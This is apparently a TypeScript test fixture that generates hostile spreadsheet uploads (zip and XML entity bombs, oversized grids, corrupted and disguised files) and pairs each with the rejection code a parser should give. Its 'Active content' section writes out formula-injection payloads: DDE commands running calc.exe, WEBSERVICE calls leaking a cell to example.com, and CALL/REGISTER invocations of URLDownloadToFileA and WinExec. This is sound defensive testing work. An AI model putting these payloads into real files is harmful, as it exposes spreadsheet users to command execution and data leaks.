/** Files made to harm their reader, small enough to be sent, each with its error code. */

import { zipSync } from 'fflate'
import type { UploadErrorCode } from '#shared/table-reading/workbook/workbook.ts'
import { toColumnLetters } from '#shared/text/column-letters.ts'
import { packCompound, packXls, packXlsx, record, sheetXml, u16, u32, worksheetXml, xlsFormula, xlsRecords } from './workbook-builders.ts'

export interface HostileFile {
  name: string
  bytes: Uint8Array<ArrayBuffer>
  code: UploadErrorCode
}

const encoder = new TextEncoder()
const LIST = [
  ['MPN', 'Qty'],
  ['RC0402FR-0710KL', 100],
]
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const withFormula = (formula: string): Uint8Array<ArrayBuffer> =>
  packXlsx({
    sheets: [
      {
        name: 'Parts',
        xml: worksheetXml(
          `<row r="1"><c r="A1" t="inlineStr"><is><t>MPN</t></is></c></row><row r="2"><c r="A2" t="str"><f>${formula.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</f><v>RC0402</v></c></row>`,
        ),
      },
    ],
  })

/** Overwrites bytes of every record of a zip's directory (or of its local headers). */
function patchZip(zip: Uint8Array<ArrayBuffer>, signature: number, at: number, bytes: number[]): Uint8Array<ArrayBuffer> {
  const patched = zip.slice()
  const view = new DataView(patched.buffer)
  for (let i = 0; i + 46 < patched.length; i++) if (view.getUint32(i, true) === signature) patched.set(bytes, i + at)
  return patched
}

const claiming = (zip: Uint8Array<ArrayBuffer>, size: number): Uint8Array<ArrayBuffer> => patchZip(zip, CENTRAL, 24, u32(size))

const CENTRAL = 0x02014b50
const MEBIBYTE = 1024 * 1024

/** Takes about a second; none is larger than an upload's 2 MB, except the one named so. */
export function hostileFiles(): HostileFile[] {
  const good = packXlsx({ sheets: [{ name: 'Parts', rows: LIST }] })
  const blank = ' '.repeat(40 * MEBIBYTE)
  const bomb = packXlsx({ sheets: [{ name: 'Parts', xml: worksheetXml('').replace('<sheetData>', `<sheetData>${blank}`) }] })
  const millionCells = '<c><v>1</v></c>'.repeat(1_000_000)
  const entities = `<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`
  const file = (name: string, code: UploadErrorCode, bytes: Uint8Array<ArrayBuffer> | string): HostileFile => ({
    name,
    code,
    bytes: typeof bytes === 'string' ? encoder.encode(bytes) : bytes,
  })
  return [
    // They expand too much.
    file('bomb.xlsx', 'file_expands', bomb),
    file('bomb-that-claims-1-kb.xlsx', 'file_expands', claiming(bomb, 1024)),
    file(
      'bomb-in-strings.xlsx',
      'file_expands',
      packXlsx({ sheets: [{ name: 'Parts', rows: LIST }], strings: `<sst><si><t>${'A'.repeat(20 * MEBIBYTE)}</t></si></sst>` }),
    ),
    file(
      'one-string-a-million-times.xlsx',
      'file_too_long',
      packXlsx({
        sheets: [
          {
            name: 'Parts',
            xml: worksheetXml(
              Array.from(
                { length: 8_000 },
                (_, row) =>
                  `<row r="${row + 1}">${Array.from({ length: 60 }, (__, i) => `<c r="${toColumnLetters(i)}${row + 1}" t="s"><v>0</v></c>`).join('')}</row>`,
              ).join(''),
            ),
          },
        ],
        strings: `<sst><si><t>${'A'.repeat(32_000)}</t></si></sst>`,
      }),
    ),
    file(
      'million-strings.xlsx',
      'file_expands',
      packXlsx({ sheets: [{ name: 'Parts', rows: LIST }], strings: `<sst>${'<si><t>A</t></si>'.repeat(600_000)}</sst>` }),
    ),
    file(
      'entity-bomb.xlsx',
      'file_expands',
      packXlsx({ sheets: [{ name: 'Parts', xml: sheetXml(LIST, entities).replace('RC0402FR-0710KL', '&j;') }] }),
    ),
    file(
      'entity-bomb-in-strings.xlsx',
      'file_expands',
      packXlsx({ sheets: [{ name: 'Parts', rows: LIST }], strings: `${entities}<sst><si><t>&j;</t></si></sst>` }),
    ),
    file(
      'one-endless-tag.xlsx',
      'file_expands',
      packXlsx({ sheets: [{ name: 'Parts', xml: worksheetXml(`<row r="${'1'.repeat(20 * MEBIBYTE)}"/>`) }] }),
    ),
    file(
      'bomb-beside.xlsx',
      'file_expands',
      claiming(packXlsx({ sheets: [{ name: 'Parts', rows: LIST }], parts: { 'xl/media/image1.png': 'x' } }), 1024 * MEBIBYTE),
    ),
    file(
      'thousands-of-entries.xlsx',
      'file_expands',
      packXlsx({
        sheets: [{ name: 'Parts', rows: LIST }],
        parts: Object.fromEntries(Array.from({ length: 9000 }, (_, i) => [`xl/p${i}.xml`, 'x'])),
      }),
    ),
    file('overlapping-entries.xlsx', 'file_expands', overlapping(good)),
    // Too many cells or designators.
    file(
      'million-columns.xlsx',
      'file_too_wide',
      packXlsx({ sheets: [{ name: 'Parts', xml: worksheetXml(`<row r="1">${millionCells}</row>`) }] }),
    ),
    file(
      'million-columns-declared.xlsx',
      'file_too_wide',
      packXlsx({
        sheets: [
          { name: 'Parts', xml: sheetXml(LIST).replace('<sheetData>', `<dimension ref="A1:${toColumnLetters(999_999)}2"/><sheetData>`) },
        ],
      }),
    ),
    file(
      'last-column.xlsx',
      'file_too_wide',
      packXlsx({ sheets: [{ name: 'Parts', xml: worksheetXml('<row r="1"><c r="XFD1"><v>1</v></c></row>') }] }),
    ),
    file('million-columns.csv', 'file_too_wide', `MPN${','.repeat(999_999)}Qty\nRC0402,1\n`),
    file('ten-million-rows.csv', 'file_too_long', 'A\n'.repeat(1_000_000)),
    file(
      'last-row.xlsx',
      'file_too_long',
      packXlsx({ sheets: [{ name: 'Parts', xml: worksheetXml('<row r="1048576"><c r="A1048576"><v>1</v></c></row>') }] }),
    ),
    file(
      'row-ten-million.xlsx',
      'file_too_long',
      packXlsx({ sheets: [{ name: 'Parts', xml: worksheetXml('<row r="10000000"><c r="A10000000"><v>1</v></c></row>') }] }),
    ),
    file('empty-rows.xlsx', 'file_too_long', packXlsx({ sheets: [{ name: 'Parts', xml: worksheetXml('<row/>'.repeat(2_000_000)) }] })),
    file(
      'many-sheets.xlsx',
      'file_too_long',
      packXlsx({ sheets: Array.from({ length: 1000 }, (_, i) => ({ name: `s${i}`, rows: LIST })) }),
    ),
    file(
      'wide-grids.xlsx',
      'file_too_wide',
      packXlsx({
        sheets: Array.from({ length: 200 }, (_, i) => ({
          name: `s${i}`,
          xml: worksheetXml('<row r="20000"><c r="IV20000"><v>1</v></c></row>'),
        })),
      }),
    ),
    file('wide.xls', 'file_too_wide', packXls({ cells: [record(0x0203, u16(0), u16(40_000), u16(0), [...new Uint8Array(8)])] })),
    file('long.xls', 'file_too_long', packXls({ cells: [record(0x0203, u16(65_000), u16(0), u16(0), [...new Uint8Array(8)])] })),
    file(
      'index-beyond.xml',
      'file_too_long',
      '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row Index="900000000"><Cell><Data>1</Data></Cell></Row></Table></Worksheet></Workbook>',
    ),
    // Active content.
    file('dde.xlsx', 'file_formulas', withFormula("cmd|'/c calc.exe'!A1")),
    file('webservice.xlsx', 'file_formulas', withFormula('_xlfn.WEBSERVICE("https://example.com/?"&A1)')),
    file('importdata.xlsx', 'file_formulas', withFormula('IMPORTDATA("https://example.com/list.csv")')),
    file('call.xlsx', 'file_formulas', withFormula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://example.com","x",0,0)')),
    file('register.xlsx', 'file_formulas', withFormula('1+REGISTER.ID("kernel32","WinExec")')),
    file('other-workbook.xlsx', 'file_formulas', withFormula("VLOOKUP(A1,'[prices.xlsx]Sheet 1'!$A$1:$B$9,2)")),
    file(
      'dde-link.xlsx',
      'file_formulas',
      packXlsx({
        sheets: [{ name: 'Parts', rows: LIST }],
        relations: `<Relationship Id="x" Type="${RELATION}/externalLink" Target="externalLinks/externalLink1.xml"/>`,
        parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' },
      }),
    ),
    file('dde-in-a-text.xlsx', 'file_formulas', packXlsx({ sheets: [{ name: 'Parts', rows: [...LIST, ["=cmd|'/c calc'!A1", 1]] }] })),
    file('dde.csv', 'file_formulas', 'MPN,Qty\nRC0402,1\n"=cmd|\' /C calc\'!A0",1\n'),
    file('dde-at.csv', 'file_formulas', 'MPN,Qty\nRC0402,1\n"@SUM(1+1)*cmd|\' /C calc\'!A0",1\n'),
    file('dde-minus.csv', 'file_formulas', "MPN;Qty\nRC0402;1\n-2+3+cmd|' /C calc'!A0;1\n"),
    file('webservice.csv', 'file_formulas', 'MPN;Qty\nRC0402;1\n"=WEBSERVICE(""https://example.com/?""&A1)";1\n'),
    file('importxml.tsv', 'file_formulas', 'MPN\tQty\nRC0402\t1\n=IMPORTXML("https://example.com","//a")\t1\n'),
    file('call.xls', 'file_formulas', packXls({ rows: LIST, cells: [xlsFormula(2, 0, 1, [0x42, 1, ...u16(150)])] })),
    file(
      'dde.xls',
      'file_formulas',
      packXls({ rows: LIST, globals: [record(0x01ae, u16(0), u16(12), [0], [...encoder.encode('cmd\u0003/c calc.')])] }),
    ),
    file(
      'other-workbook.xls',
      'file_formulas',
      packXls({
        rows: LIST,
        globals: [
          record(0x01ae, u16(1), u16(6), [0], [...encoder.encode('\u0001p.xls')], u16(2), [0], [...encoder.encode('S1')]),
          record(0x0017, u16(1), u16(0), u16(0), u16(0)),
        ],
        cells: [xlsFormula(2, 0, 1, [0x5a, ...u16(0), ...u16(0), ...u16(0)])],
      }),
    ),
    // Locked, broken, or another format.
    file('password.xlsx', 'file_password', packCompound({ EncryptionInfo: new Uint8Array(8), EncryptedPackage: new Uint8Array(5000) })),
    file('password.xls', 'file_password', packXls({ rows: LIST, globals: [record(0x002f, u16(1), [...new Uint8Array(52)])] })),
    file('password.zip.xlsx', 'file_password', patchZip(good, CENTRAL, 8, u16(1))),
    file('cut.xlsx', 'file_damaged', good.subarray(0, good.length - 40)),
    file('bits-turned.xlsx', 'file_damaged', turned(good)),
    file(
      'cut.xls',
      'file_damaged',
      packCompound({ Workbook: xlsRecords({ rows: Array.from({ length: 200 }, () => LIST.flat()) }).subarray(0, 5000) }),
    ),
    file('circle.xls', 'file_damaged', circular()),
    file('document.docx', 'file_not_a_spreadsheet', zipSync({ 'word/document.xml': encoder.encode('<document/>') })),
    file('nested.zip.xlsx', 'file_archive', zipSync({ 'a.zip': zipSync({ 'b.zip': good }) })),
    file('document.doc.xls', 'file_not_a_spreadsheet', packCompound({ WordDocument: new Uint8Array(5000) })),
    file('program.xlsx', 'file_not_a_spreadsheet', Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, ...new Uint8Array(500)])),
    file('document.csv', 'file_not_a_spreadsheet', '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
    file(
      'picture.xls',
      'file_not_a_spreadsheet',
      Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...new Uint8Array(500)]),
    ),
    file('page.xls', 'file_not_a_spreadsheet', '<!DOCTYPE html><html><body><p>Nothing to see</p></body></html>'),
    file(
      'noise.xlsx',
      'file_not_a_spreadsheet',
      Uint8Array.from({ length: 100_000 }, (_, i) => (i * i * 31 + i * 17 + (i >> 3)) & 0xff),
    ),
    file('nothing.csv', 'file_empty', ''),
    file('blank.csv', 'file_empty', ' \r\n\r\n,,,\r\n'),
    file('large.csv', 'file_too_large', 'A,B\n'.repeat(600_000)),
  ]
}

/** Every entry of the directory claims the whole file. */
function overlapping(zip: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> {
  const maxOffset = zip.length - 100
  return patchZip(patchZip(zip, CENTRAL, 20, u32(maxOffset)), CENTRAL, 42, u32(0))
}

/** Corrupts the packed data: bytes in the middle of each part are changed. */
function turned(zip: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> {
  const damaged = zip.slice()
  const view = new DataView(damaged.buffer)
  for (let i = 0; i + 30 < damaged.length; i++)
    if (view.getUint32(i, true) === 0x04034b50)
      damaged.fill(0xff, i + 30 + view.getUint16(i + 26, true), i + 36 + view.getUint16(i + 26, true))
  return damaged
}

/** The sector chain of the workbook is circular. */
function circular(): Uint8Array<ArrayBuffer> {
  const file = packXls({ rows: Array.from({ length: 300 }, () => LIST.flat()) })
  const view = new DataView(file.buffer)
  for (let i = 0; i < 128; i++) if (view.getUint32(512 + i * 4, true) === 0xfffffffe) view.setUint32(512 + i * 4, 2, true)
  return file
}
